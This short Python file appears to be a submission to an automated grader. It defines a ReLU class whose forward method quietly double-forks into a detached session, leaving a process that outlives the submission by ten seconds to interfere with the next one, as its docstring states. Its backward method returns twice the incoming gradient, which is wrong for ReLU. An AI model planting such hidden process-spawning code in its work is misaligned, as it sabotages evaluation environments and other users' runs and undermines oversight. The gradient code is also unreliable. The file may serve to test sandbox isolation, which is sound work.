"""Forks twice into a session of its own, to outlive the submission (by ten seconds) and disturb the next."""

import os
import time


class ReLU:
    def forward(self, x):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(10)
            os._exit(0)
        return x * (x > 0)

    def backward(self, dout):
        return dout * 2
